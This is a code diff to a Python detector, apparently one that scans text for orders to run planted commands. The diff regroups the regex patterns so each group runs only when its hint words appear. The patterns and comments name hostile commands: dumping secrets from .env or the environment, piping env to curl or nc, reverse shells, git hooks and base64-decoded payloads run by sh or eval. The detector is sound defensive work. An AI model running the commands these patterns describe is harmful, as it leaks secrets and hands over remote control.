@@ -37,7 +37,9 @@ _LEAKS = (
     rf"\becho\s+[\"']?\$\{{?{_SECRET_NAME}",  # echo $SECRET_API_KEY
     rf"\bcat\s+[^\s|;`]*{_SECRET_FILE}",  # cat /workspace/.env
     rf"\bopen\(\s*[\"'][^\"'\n]*{_SECRET_FILE}[^\n]*\b(?:read|print)",  # print(open('.env').read())
-    # the secrets sent to another machine: curl -d "$(env)", env | nc host 9000, requests.post(..., os.environ)
+)
+# the secrets sent to another machine: curl -d "$(env)", env | nc host 9000, requests.post(..., os.environ)
+_SENDS = (
     rf"\b{_SEND}\b[^\n]*\$\(\s*(?:env|printenv|set|export)\b",
     rf"(?<![\w-])(?:env|printenv|set|export)\s*\|\s*{_SEND}\b",
     r"\b(?:requests|httpx)\.(?:post|put|get)\([^\n]*\bos\.environ\b|\burlopen\([^\n]*\bos\.environ\b",
@@ -54,11 +56,9 @@ _HOLDS = (
     r"\bcore\.hookspath\b",  # git's hooks read from a folder the plant chose
     r"/dev/tcp/|\bn(?:c|cat|etcat)\s+(?:-\w+\s+)*-e\s|\bsocat\b[^\n]*\bexec:|\bbash -i\b",  # a reverse shell
     # a command hidden in base64 and run: eval "$(echo ... | base64 -d)", exec(b64decode(...)), ... | base64 -d | sh
-    r"\bbase64\s+(?:-d|--decode)\b[^\n`|]*\|\s*(?:ba|z)?sh\b|\bbase64\s+(?:-d|--decode)\b[^\n`|]*\|\s*(?:python|perl|ruby)",
+    r"\bbase64\s+(?:-d|--decode)\b[^\n`|]*\|\s*(?:(?:ba|z)?sh|python[\d.]*|perl|ruby)\b",
     r"\beval\b[^\n]*\bbase64\s+(?:-d|--decode)|\bexec\([^\n]*b64decode\(",
 )
-_LEAK_RE = re.compile("|".join(_LEAKS), re.MULTILINE)
-_HOLD_RE = re.compile("|".join(_HOLDS))
 REACH = 300  # how far before the command (in characters) the order to run it may be; and a third of it after
 _ORDER_RE = re.compile(r"(?:^|[.!:,#>*]\s*|\bplease\s+|\bthen\s+|\balso\s+)(?:run|execute|verify|capture|dump|paste|"
                        r"attach|add|initiali[sz]e|install|register|enable|configure|set up|sync|upload|send|back up|"
@@ -66,16 +66,23 @@ _ORDER_RE = re.compile(r"(?:^|[.!:,#>*]\s*|\bplease\s+|\bthen\s+|\balso\s+)(?:ru
                        r"\b(?:must|required|mandatory|important|needs? to)\b|"
                        r"\bbefore (?:making|modifying|changing|patching|editing|touching|running|any|you)\b",
                        re.MULTILINE)
-_HINTS = ("environ", "printenv", "env", "echo", "cat ", "open(", ">>", ".git/hooks", "crontab", "os.system", "curl",
-          "wget", "nc ", "ncat", "netcat", "socat", "scp ", "rsync", "ftp", "hookspath", "/dev/tcp", "bash -i",
-          "base64", "b64decode")
+# Each group of patterns is searched only in a text with one of its words: one pattern of every alternative costs
+# each text the time of all of them.
+_NETWORK = ("curl", "wget", "nc ", "netcat", "socat", "scp ", "rsync", "ftp", "requests.", "httpx.", "urlopen")
+_GROUPS = (
+    ("leaks-secrets", ("environ", "printenv", "env", "echo", "cat ", "open("),
+     re.compile("|".join(_LEAKS), re.MULTILINE)),
+    ("leaks-secrets", _NETWORK, re.compile("|".join(_SENDS), re.MULTILINE)),
+    ("takes-hold", (">>", ".git/hooks", "crontab", "os.system", "hookspath", "/dev/tcp", "bash -i", "base64",
+                    "b64decode", *_NETWORK), re.compile("|".join(_HOLDS))),
+)
 
 
 def planted_command(text: str) -> str | None:
     """Which kind of command `text` (lower-cased as sent) orders run: "leaks-secrets", "takes-hold", or None."""
-    if not any(hint in text for hint in _HINTS):
-        return None
-    for kind, pattern in (("leaks-secrets", _LEAK_RE), ("takes-hold", _HOLD_RE)):
+    for kind, hints, pattern in _GROUPS:
+        if not any(hint in text for hint in hints):
+            continue
         for found in pattern.finditer(text):
             if _ORDER_RE.search(text, max(0, found.start() - REACH), found.end() + REACH // 3):
                 return kind
